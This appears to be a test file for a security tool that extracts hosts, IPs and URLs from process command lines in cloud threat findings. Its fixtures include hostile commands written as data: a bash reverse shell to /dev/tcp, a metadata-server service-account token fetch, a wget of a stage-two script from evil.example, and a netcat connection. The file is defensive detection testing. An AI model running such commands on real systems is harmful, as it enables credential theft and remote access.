import { commandIndicators } from '../../src/evidence/command-indicators';
import { indicatorsOf } from '../../src/evidence/indicators';
import { maskText } from '../../src/evidence/mask';
import { decodeNotification } from '../../src/notification/decode';
import type { Finding } from '../../src/notification/schema';
import { loadSample } from '../support/fixtures';

const withProcess = (args: string[], script?: string): Finding => {
  const sample = loadSample('gke-reverse-shell.json');
  sample.finding.processes = [{ binary: { path: '/bin/bash' }, args, ...(script === undefined ? {} : { script: { path: '/tmp/x.sh', contents: script } }) }];
  return decodeNotification(sample).notification.finding;
};

describe('indicators from command lines', () => {
  it.each([
    [
      'the metadata server by name',
      ['curl', '-s', '-H', 'Metadata-Flavor: Google', 'http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token'],
      { hosts: ['metadata.google.internal'], ips: [] },
    ],
    ['the metadata server by address', ['curl', 'http://169.254.169.254/computeMetadata/v1/'], { hosts: [], ips: ['169.254.169.254'] }],
    ["bash's /dev/tcp", ['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.45/4444 0>&1'], { hosts: [], ips: ['203.0.113.45'] }],
    ['a host in a URL', ['wget', '-qO-', 'https://evil.example/stage2.sh'], { hosts: ['evil.example'], ips: [] }],
    ['a bare address', ['nc', '10.0.0.5', '9001'], { hosts: [], ips: ['10.0.0.5'] }],
    ['nothing', ['ls', '-la', '/tmp'], { hosts: [], ips: [] }],
  ])('%s', (_name, args, expected) => {
    expect(commandIndicators(withProcess(args))).toMatchObject(expected);
  });

  it('reads the script too, and keeps each list unique', () => {
    const found = commandIndicators(
      withProcess(['python3', '/tmp/x.py'], 'import urllib.request\nurllib.request.urlopen("http://169.254.169.254/x")\nurllib.request.urlopen("http://169.254.169.254/y")'),
    );
    expect(found.ips).toEqual(['169.254.169.254']);
    expect(found.urls).toEqual(['http://169.254.169.254/x', 'http://169.254.169.254/y']);
  });

  it('in the indicators block: scopes, the metadata server marked, URL credentials masked', () => {
    const finding = withProcess(['curl', 'https://deploy:s3cr3t-pass@evil.example/x.sh', 'http://metadata.google.internal/computeMetadata/v1/', 'http://169.254.169.254/']);
    const block = indicatorsOf(finding, undefined, maskText);
    expect(block.hosts).toEqual([{ host: 'evil.example' }, { host: 'metadata.google.internal', metadataServer: true }]);
    expect(block.ips).toContainEqual({ ip: '169.254.169.254', scope: 'link-local', metadataServer: true });
    expect(block.urls.join(' ')).not.toContain('s3cr3t-pass');
  });

  it('a hostile argument cannot make the lists unbounded', () => {
    const args = Array.from({ length: 64 }, (_, i) => `http://h${i}.example/ 10.0.${i}.1`);
    const found = commandIndicators(withProcess(args));
    expect(found.hosts).toHaveLength(16);
    expect(found.ips).toHaveLength(16);
    expect(found.urls).toHaveLength(16);
  });
});
